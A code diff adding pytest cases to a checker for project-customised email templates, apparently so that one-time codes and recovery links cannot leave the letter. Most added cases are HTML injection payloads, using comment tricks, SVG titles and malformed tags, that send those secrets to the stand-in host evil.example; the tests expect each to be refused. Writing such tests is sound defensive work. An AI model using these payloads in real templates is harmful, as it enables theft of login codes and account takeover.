@@ -1,12 +1,13 @@
 """A project's own templates: what may stand in them, and that nothing else is reached or costs anything."""
 
 import resource
+import sys
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from service.template_overrides import checks, language
+from service.template_overrides import checks, html_places, language
 from service.template_overrides.language import MOST_NODES, OverrideFault
 from service.template_overrides.values import (
     DESCRIPTIONS,
@@ -290,6 +291,16 @@ def test_a_link_may_stand_in_href_and_in_text(source: str) -> None:
         ("recovery", '{% if not device %}<img src="{{ link }}">{% endif %}'),
         ("otp", '<img src="https://evil.example/{{ code }}.png">'), ("otp", '<a href="https://x.example/{{ code }}">'),
         ("otp", '<img src="https://evil.example/{{ code_start }}/">'), ("otp", "<script>x = {{ code_end }}</script>"),
+        ("recovery", '<img src="https://evil.example/?{{ link | lower }}">'), ("recovery", "<img {{ link }}=1>"),
+        ("recovery", '<a href="{{ link | upper }}">x</a>'), ("recovery", '</a href="{{ link }}">'),
+        ("recovery", '<!--[if mso]><img src="https://evil.example/?{{ link }}"><![endif]-->'),
+        ("recovery", '<!--><img src="https://evil.example/?{{ link }}">-->'),
+        ("recovery", '<!-- --!><img src="https://evil.example/?{{ link }}">-->'),
+        ("recovery", '<title><!--</title><img src="https://evil.example/?{{ link }}">--></title>'),
+        ("recovery", "<img alt='>' src=https://evil.example/?{{ link }}>"), ("recovery", "<!DOCTYPE {{ link }}>"),
+        ("recovery", '<svg><title><img src="https://evil.example/?{{ link }}"></title></svg>'),
+        ("recovery", "<textarea>{{ link }}</textarea>"), ("recovery", '<img/src="https://evil.example/{{ link }}"/>'),
+        ("recovery", '<img alt="a"src="https://evil.example/?{{ link }}">'),
     ],
 )  # fmt: skip
 def test_a_secret_leaves_the_letter_by_no_address(letter: str, leak: str) -> None:
@@ -298,6 +309,47 @@ def test_a_secret_leaves_the_letter_by_no_address(letter: str, leak: str) -> Non
         checks.check(
             "{{ code }} " * (letter == "otp") + "{{ link }}" * (letter != "otp") + leak, letter=letter, part="html"
         )
+
+
+@pytest.mark.parametrize(
+    ("source", "fault"),
+    [
+        ('<img src="https://evil.example/', "does not end"), ("<img alt='", "does not end"), ("<img", "does not end"),
+        ("<!-- x", "does not end"), ("<![CDATA[ x ]]>", "CDATA"), ("<script><!--<script></script>", "comment in"),
+    ],
+)  # fmt: skip
+def test_what_readers_would_mend_each_in_their_way_is_refused(source: str, fault: str) -> None:
+    """A tag, a comment or a section that does not end takes what follows along, for one program and not for another."""
+    with pytest.raises(OverrideFault, match=fault):
+        checks.check("{{ link }}" + source, letter="recovery", part="html")
+
+
+@pytest.mark.parametrize("source", ["a < b", "<", "</", "<!", "<3", "<![endif]", "<br/>", "<p hidden>x", "<a b = c>"])
+def test_what_all_readers_take_alike_is_allowed(source: str) -> None:
+    """Signs that begin no tag are text."""
+    checks.check("{{ link }}" + source, letter="recovery", part="html")
+
+
+@pytest.mark.parametrize("unit", ["<a ", '<a href="', "<!--", "<![", "<x a=b ", "<b>", "<style>", "<!-->", "< "])
+def test_the_check_walks_once(unit: str) -> None:
+    """The work grows with the source, not with its square: four times as much takes at most five times the steps."""
+
+    def steps(count: int) -> int:
+        taken = 0
+
+        def count_line(_frame: object, _event: str, _value: object) -> object:
+            nonlocal taken
+            taken += 1
+            return count_line
+
+        sys.settrace(count_line)
+        try:
+            list(html_places.faults(unit * count, link="", find=lambda _: ""))
+        finally:
+            sys.settrace(None)
+        return taken
+
+    assert steps(4000) <= 5 * steps(1000)
 
 
 @pytest.mark.parametrize("value", sorted(SECRETS))
